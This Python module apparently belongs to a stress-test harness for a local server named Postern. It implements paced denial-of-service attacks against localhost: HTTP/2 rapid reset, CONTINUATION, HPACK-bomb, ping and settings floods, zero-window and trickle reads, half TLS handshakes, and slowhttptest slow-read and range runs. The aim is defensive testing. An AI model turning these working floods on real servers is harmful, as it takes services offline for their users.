"""The storm's attacks. Each runs in a process of its own until its time is over, and counts what it did.

A flood comes at a stated pace, since what any server spends on an unlimited one is a whole processor. It comes over mTLS from a
client that policy knows, which is the strongest position to attack from. A connection that Postern ends is opened again.
"""

import contextlib
import select
import ssl
import subprocess
import time

import client
import raw_h2

SOURCE = "127.0.0.66"
FAILURES = (OSError, ssl.SSLError, client.Broken)


class Attack:
    """Where to go, for how long, and what was done: `count` of frames or requests, `opened` connections."""

    def __init__(self, site, seconds):
        self.site, self.seconds, self.began = site, seconds, time.monotonic()
        self.end = self.began + seconds
        self.count = self.opened = 0
        self._tls = client.tls(site.directory, "h2")

    def is_over(self):
        return time.monotonic() >= self.end

    def connect(self, timeout=2):
        connection = client.connect(self.site.port, self._tls, SOURCE, timeout)
        self.opened += 1
        return connection

    def flood(self, start, blob, per_second, reads=True):
        """Over and over `blob(n)`, which is (bytes, units in it), `per_second` units; `start` opens each connection."""
        while not self.is_over():
            with contextlib.suppress(*FAILURES), self.connect() as connection:
                connection.sendall(start)
                self._pour(connection, blob, per_second, reads)

    def _pour(self, connection, blob, per_second, reads):
        number = 0
        while not self.is_over():
            data, units = blob(number)
            number += 1
            connection.sendall(data)
            # The pace is that of the whole attack: what was sent on connections that are gone counts.
            self.count += units
            if reads and not drained(connection):
                return
            ahead = self.count / per_second - (time.monotonic() - self.began)
            if ahead > 0:
                time.sleep(min(ahead, 0.2))


def drained(connection):
    """Reads what is there. False at the end."""
    while select.select([connection], [], [], 0)[0] or connection.pending():
        connection.setblocking(False)
        try:
            if not connection.recv(65536):
                return False
        except ssl.SSLWantReadError:
            return True
        finally:
            connection.settimeout(2)
    return True


def ask(path, method="GET", more=()):
    return raw_h2.request("localhost", path, method, more)


def rapid_reset(attack):
    """CVE-2023-44487: requests that are taken back at once."""
    pairs = ask("/small")

    def blob(number):
        streams = [1 + 2 * (number * 50 + at) for at in range(50)]
        return b"".join(raw_h2.headers(stream, pairs) + raw_h2.reset(stream) for stream in streams), 50

    attack.flood(raw_h2.start(), blob, 5000)


def made_reset(attack):
    """CVE-2025-8671: has the server reset each stream."""
    pairs = ask("/small", "POST", [("content-type", "application/octet-stream")])

    def blob(number):
        streams = [1 + 2 * (number * 50 + at) for at in range(50)]
        broken = b"\x00\x00\x04\x08\x00%b\x00\x00\x00\x00"  # a window update of nothing
        return b"".join(raw_h2.headers(s, pairs, False) + broken % s.to_bytes(4, "big") for s in streams), 50

    attack.flood(raw_h2.start(), blob, 5000)


def continuation(attack):
    """A head that never ends."""
    open_head = b"\x00\x00\x00\x01\x01\x00\x00\x00\x01"  # HEADERS, END_STREAM without END_HEADERS
    piece = raw_h2.bare_headers([(f"x-{at}", "a" * 50) for at in range(16)])
    frame = len(piece).to_bytes(3, "big") + b"\x09\x00\x00\x00\x00\x01" + piece

    attack.flood(raw_h2.start() + open_head, lambda _: (frame * 50, 50), 20000)


def ping(attack):
    """Pings whose answers nobody reads."""
    block = raw_h2.ping() * 200
    attack.flood(raw_h2.start(), lambda _: (block, 200), 20000, reads=False)


def settings(attack):
    """Settings that want to be acknowledged; nobody reads that."""
    block = raw_h2.settings([(4, 65535), (1, 4096)]) * 200
    attack.flood(raw_h2.start(), lambda _: (block, 200), 20000, reads=False)


def empty_data(attack):
    """RUSTSEC-2026-0258: a body of empty pieces."""
    start = raw_h2.start() + raw_h2.headers(1, ask("/up", "POST", [("content-type", "application/octet-stream")]), False)
    block = raw_h2.data(1, b"", False) * 200
    attack.flood(start, lambda _: (block, 200), 20000)


def hpack_bomb(attack):
    """CVE-2026-105297: one long header in the table, then a byte for every time it is meant."""
    first = raw_h2.bare_headers(ask("/small")) + b"\x40" + raw_h2._string("x-long") + raw_h2._string("a" * 3900)
    bomb = raw_h2.bare_headers(ask("/small")) + b"\xbe" * 16000

    def head(stream, block):
        return len(block).to_bytes(3, "big") + b"\x01\x05" + stream.to_bytes(4, "big") + block

    def blob(number):
        return b"".join(head(3 + 2 * (number * 4 + at), bomb) for at in range(4)), 4

    attack.flood(raw_h2.start() + head(1, first), blob, 400)


def priority(attack):
    """Priorities of streams that are not there."""
    frames = b"".join(b"\x00\x00\x05\x02\x00" + stream.to_bytes(4, "big") + b"\x00\x00\x00\x00\x10" for stream in range(3, 403, 2))
    attack.flood(raw_h2.start(), lambda _: (frames, 200), 20000)


def zero_window(attack):
    """Asks for long answers and takes nothing of them: a hundred streams on each of eight connections."""
    pairs = ask("/bytes/4194304")
    request = raw_h2.start(_4=0) + b"".join(raw_h2.headers(1 + 2 * at, pairs) for at in range(100))
    while not attack.is_over():
        with contextlib.ExitStack() as stack, contextlib.suppress(*FAILURES):
            held = [stack.enter_context(attack.connect()) for _ in range(8)]
            for connection in held:
                connection.sendall(request)
                attack.count += 100
            while not attack.is_over() and all(map(drained, held)):
                time.sleep(0.05)


def trickle(attack):
    """Takes long answers a byte at a time."""
    pairs = ask("/bytes/4194304")
    start = raw_h2.start(_4=0) + b"".join(raw_h2.headers(1 + 2 * at, pairs) for at in range(100))
    updates = b"".join(raw_h2.window_update(1 + 2 * at, 1) for at in range(100))
    attack.flood(start, lambda _: (updates, 100), 5000)


def half_handshakes(attack):
    """Opens connections, sends half a ClientHello, and opens the next."""
    import socket

    while not attack.is_over():
        with contextlib.ExitStack() as stack, contextlib.suppress(*FAILURES):
            for _ in range(200):
                plain = stack.enter_context(socket.create_connection(("127.0.0.1", attack.site.port), 2, (SOURCE, 0)))
                plain.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
                attack.count += 1
                attack.opened += 1
                time.sleep(0.005)
                if attack.is_over():
                    return


def slow_http(*mode):
    """slowhttptest against the listener that wants no client certificate, with a token that policy knows."""

    def run(attack):
        # The tool leaves when none of its connections is left; then it comes again.
        while attack.count == 0 or attack.end - time.monotonic() > 2:
            once(attack, str(max(int(attack.end - time.monotonic()), 2)))

    def once(attack, seconds):
        site = attack.site
        path = "/bytes/4194304" if mode[0] == "-X" else "/small"
        # The tool has no option for other headers; what it takes for one of these it sends as it is.
        option, value = ("-j", "a=b") if mode[0] in ("-R", "-X") else ("-m", "*/*")
        command = [
            "slowhttptest", *mode, "-l", seconds, "-u", f"https://127.0.0.1:{site.open_port}{path}",
            option, f"{value}\r\nAuthorization: Bearer {site.token}",
        ]
        subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=attack.seconds + 60)
        connections = int(mode[mode.index("-c") + 1])
        attack.count += connections
        attack.opened += connections

    run.__doc__ = {"-H": "Slow heads.", "-B": "Slow bodies.", "-R": "Overlapping ranges.", "-X": "Slow readers of long answers."}[mode[0]]
    return run


ATTACKS = {
    "slow-headers": slow_http("-H", "-c", "500", "-r", "250", "-i", "2", "-x", "24"),
    "slow-body": slow_http("-B", "-c", "500", "-r", "250", "-i", "2", "-s", "65536", "-x", "24"),
    "range": slow_http("-R", "-c", "500", "-r", "250", "-a", "1", "-b", "1500", "-t", "GET"),
    "slow-read": slow_http("-X", "-c", "500", "-r", "250", "-w", "512", "-y", "1024", "-n", "2", "-z", "32", "-k", "3"),
    "half-handshakes": half_handshakes,
    "rapid-reset": rapid_reset,
    "made-reset": made_reset,
    "continuation": continuation,
    "ping": ping,
    "settings": settings,
    "priority": priority,
    "empty-data": empty_data,
    "hpack-bomb": hpack_bomb,
    "zero-window": zero_window,
    "trickle": trickle,
}
